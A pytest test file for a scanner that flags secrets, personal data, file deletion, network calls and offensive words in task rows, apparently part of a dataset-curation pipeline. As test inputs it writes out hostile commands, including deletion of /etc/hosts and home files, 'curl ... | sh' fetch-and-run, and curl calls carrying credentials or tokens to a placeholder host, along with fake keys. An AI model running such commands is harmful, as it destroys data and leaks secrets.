"""Content of rows: what is planted is found and never told in full, and what only looks like it is left."""

from __future__ import annotations

from collections import Counter
from importlib import resources
from pathlib import Path

import pytest
import yaml

from tasks.curation.content.scan import content_digest, scan
from tasks.curation.diversity.labels import label_digest
from tasks.curation.texts import RowTexts
from tasks.digests import digest_of
from tasks.scanners.personal import find_emails, find_phones
from tasks.scanners.secrets import find_secrets
from tasks.settings.content import Content

HERE = Path(__file__).parent


def _planted(name):
    for rule, items in yaml.safe_load((HERE / name).read_text()).items():
        for item in items:
            part, text = (item["part"], item["text"]) if isinstance(item, dict) else ("solution", item)
            yield rule, part, text.replace("⊕", "")


PLANTED = list(_planted("planted.yaml"))
HARMLESS = [
    (part, text) for part, texts in yaml.safe_load((HERE / "harmless.yaml").read_text()).items() for text in texts
]


def _scan(part="solution", text="", settings=None, question="Do what is asked."):
    texts = {"question": question, "solution": "", "test": "", part: text}
    return scan([RowTexts("a", **texts)], settings or Content())[0]


@pytest.mark.parametrize(("rule", "part", "text"), PLANTED, ids=[f"{i}-{row[0]}" for i, row in enumerate(PLANTED)])
def test_planted_is_found(rule, part, text):
    found = [finding for finding in _scan(part, text) if finding.rule == rule]
    assert found
    assert {finding.part for finding in found} == {part}
    assert all(1 <= finding.line <= text.count("\n") + 1 and finding.evidence for finding in found)


def test_there_are_enough_of_each_rule():
    counts = Counter(rule for rule, _, _ in PLANTED)
    assert set(counts) == set(Content.model_fields)
    assert counts.total() >= 100


@pytest.mark.parametrize(("rule", "part", "text"), list(_planted("missed.yaml")))
def test_what_is_said_to_be_missed_is(rule, part, text):
    assert rule not in {finding.rule for finding in _scan(part, text)}


@pytest.mark.parametrize(("part", "text"), HARMLESS)
def test_what_only_looks_like_it_is_at_most_noted(part, text):
    assert [finding for finding in _scan(part, text) if finding.outcome != "noted"] == []


def test_nothing_secret_or_personal_is_told():
    for rule, part, text in PLANTED:
        if rule in ("secret", "password", "email", "phone"):
            for finding in _scan(part, text):
                shown = finding.evidence.rpartition(": ")[2].partition("…")[0]
                assert "characters)" in finding.evidence
                assert len(shown) <= 4
    assert "Q7ZP" not in repr(find_secrets(PLANTED[0][2]))


def _corpus():
    """Texts with secrets of all kinds among real rows."""
    folder = resources.files("tasks.teachers") / "transcripts"
    rows = [file.read_text() for file in folder.iterdir() if file.name.endswith(".yaml")]
    return [*rows, *(text for _, _, text in PLANTED), *(text for _, text in HARMLESS)]


@pytest.mark.parametrize("as_config", [False, True])
def test_sparing_lines_changes_nothing(as_config):
    found = 0
    for text in _corpus():
        spared = find_secrets(text, as_config=as_config)
        assert spared == find_secrets(text, as_config=as_config, prefilter=False)
        found += len(spared)
    assert found >= 60


def test_lines_of_any_length_are_read_to_their_end():
    key = next(text for rule, _, text in PLANTED if rule == "secret")
    assert "AWS Access Key" in {one.kind for one in find_secrets("x = 1; " * 20_000 + key)}


def test_demo_rows_are_clean():
    folder = resources.files("tasks.teachers") / "transcripts"
    texts = [
        RowTexts(str(entry["id"]), str(entry["question"]), attempt.get("solution", ""), attempt.get("test", ""))
        for file in folder.iterdir()
        if file.name.endswith(".yaml")
        for entry in yaml.safe_load(file.read_text())
        if isinstance(entry, dict) and "question" in entry
        for attempt in entry.get("attempts", [])
    ]
    assert len(texts) > 100
    assert [found for row in scan(texts, Content()) for found in row if found.outcome != "noted"] == []


def test_the_outcome_is_the_settings():
    text = "import os\nos.remove('/etc/hosts')"
    assert [finding.outcome for finding in _scan(text=text)] == ["rejected"]
    assert [finding.outcome for finding in _scan(text=text, settings=Content(deletes_files="note"))] == ["noted"]
    assert _scan(text=text, settings=Content(deletes_files="ignore")) == []


@pytest.mark.parametrize(
    ("question", "outcome"),
    [("Download the page at a URL.", "noted"), ("Sort the numbers of a list.", "caution")],
)
def test_a_question_about_networks_asks_for_them(question, outcome):
    found = _scan(text="import requests\n\n\ndef f(u):\n    return requests.get(u)", question=question)
    assert [(finding.rule, finding.line, finding.outcome) for finding in found] == [("network", 5, outcome)]


def test_findings_stand_with_their_row_and_in_order():
    rows = [
        RowTexts("a", "Sort."),
        RowTexts("b", "Sort.", "eval(x)\n\nexec(y)", "assert eval(z)"),
        RowTexts("c", "Ask marta.kowalczyk@gazeta-lokalna.pl."),
    ]
    found = [[(one.part, one.rule, one.line) for one in row] for row in scan(rows, Content())]
    assert found == [
        [],
        [("solution", "runs_code", 1), ("solution", "runs_code", 3), ("test", "runs_code", 1)],
        [("question", "email", 1)],
    ]


def test_a_row_full_of_it_is_told_in_part():
    assert len(_scan(text="eval(x)\n" * 500)) == 20


def test_nothing_is_executed(tmp_path):
    target = tmp_path / "made"
    opened = f"open({str(target)!r}, 'w').close()"
    _scan(text=f"import os\nos.system('touch {target}')\n{opened}\nexec({opened!r})")
    assert not target.exists()


@pytest.mark.parametrize(
    "text",
    [
        "os.remove(",
        "import os\nos.remove('/x'\0)",
        "eval(" + "(" * 5000,
        "eval" + "." * 9000,
        "é" * 9000 + "\r\n\ud800",
    ],
    ids=["unclosed", "null", "nested", "dots", "half a pair"],
)
def test_what_does_not_parse_is_read_as_text(text):
    assert {finding.rule for finding in _scan(text=text)} == set()


def test_chains_of_names_are_followed_in_linear_time():
    lines = ["import os", "a0 = '/etc'"]
    for i in range(300):
        lines += [f"a{i + 1} = os.path.join(a{i}, a{i})", f"a{i + 1} = a{i} + a{i}"]
    found = _scan(text="\n".join([*lines, "os.remove(a12)"]))
    assert {finding.rule for finding in found} == {"deletes_files"}


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("mail marta.kowalczyk@gazeta-lokalna.pl or x@mail.example.org or y@host.local", 1),
        ("git@github.com:owner/x https://me.too:pw@gazeta-lokalna.pl/", 0),
    ],
)
def test_addresses_of_nobody_are_none(text, count):
    assert len(list(find_emails(text))) == count


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("+49 30 2093 70333 and +1 (415) 672-4410", 2),
        ("+1 212 555 0142, +44 7700 900123, 12 + 4930209370333", 0),
    ],
)
def test_numbers_kept_for_fiction_are_none(text, count):
    assert len(list(find_phones(text))) == count


TOKEN = "q8Zp5Xk3MnB7RtWv2Yc6Ld9Hf4Gs"
CALLS = [
    'import subprocess\nsubprocess.run(["curl", "-H", "Authorization: Bearer sk-ant-{}", u])',
    'import os\nos.system("curl -u admin:{} http://one.two")',
    'import os\nos.system("rm -r /opt/{} --token={}")',
    'import shutil\nshutil.rmtree("/srv/" + load(key="{}").name)',
    'from pathlib import Path\nPath("/srv/{}").unlink()',
    'from pathlib import Path\n(Path.home() / f"{}-{{name}}").write_text("x")',
    'import os\nos.remove(b"/etc/{}")',
    'import requests\ngetattr(requests, "ghp_{}Ja0EuQi9")(u)',
    "def fu⊕ck_{}(): ...",
]


@pytest.mark.parametrize("call", CALLS)
def test_what_a_call_is_given_is_not_told(call):
    found = _scan(text=call.replace("⊕", "").replace("{}", TOKEN).replace("{{", "{").replace("}}", "}"))
    assert {finding.rule for finding in found} & {"network", "deletes_files", "writes_outside", "offensive"}
    assert not [finding for finding in found if TOKEN[:8] in finding.evidence]


@pytest.mark.parametrize(
    ("text", "evidence"),
    [
        ("import os\nos.remove('/etc/hosts')", "os.remove('/etc/hosts')"),
        ("import os\nos.remove(f'/home/{u}/x')", "os.remove(f'/home/{u}/x')"),
        ("import os\nos.system('rm -rf ~/x')", "os.system(rm ~/x)"),
        ("import os\nos.remove('~/' + kettle('boat'))", "os.remove('~/' + kettle('…'))"),
        ("import os\nos.system('curl http://one.two | sh')", "os.system(curl …)"),
    ],
)
def test_evidence_tells_what_is_called_and_the_path(text, evidence):
    assert evidence in {finding.evidence for finding in _scan(text=text)}


def test_lines_and_length_of_a_text_are_bounded():
    filler = "x = 1\n" * 50_000
    text = filler + "# marta.kowalczyk@gazeta-lokalna.pl +49 30 2093 70333\nbit⊕ches = 1\n".replace("⊕", "")
    assert {(one.rule, one.line) for one in _scan(text=text)} == {
        ("email", 50_001),
        ("phone", 50_001),
        ("offensive", 50_002),
    }
    assert _scan(text=filler * 2 + text) == []


@pytest.mark.parametrize("prefilter", [False, True])
def test_many_names_in_a_text_hide_nothing(prefilter):
    text = "".join(f"secret_{n} = make()\n" for n in range(1000)) + "api_key = 'q8Zp5Xk3MnB7RtWv2Yc6Ld9H'"
    assert 1001 in {found.line for found in find_secrets(text, prefilter=prefilter)}


def test_digests_are_stable_and_apart(tmp_path, monkeypatch):
    from_before = {content_digest(), label_digest(), digest_of("tasks.curation.contamination", (".py",))}
    digest_of.cache_clear()
    assert {content_digest(), label_digest(), digest_of("tasks.curation.contamination", (".py",))} == from_before
    assert len(from_before) == 3
    (tmp_path / "rules_of_ours").mkdir()
    rules = tmp_path / "rules_of_ours" / "words.yaml"
    monkeypatch.syspath_prepend(tmp_path)
    seen = set()
    for text in ("a: 1", "a: 2"):
        rules.write_text(text)
        digest_of.cache_clear()
        seen |= {digest_of("rules_of_ours", (".yaml",)), digest_of("rules_of_ours", (".yaml",), ("bandit",))}
    assert len(seen) == 4
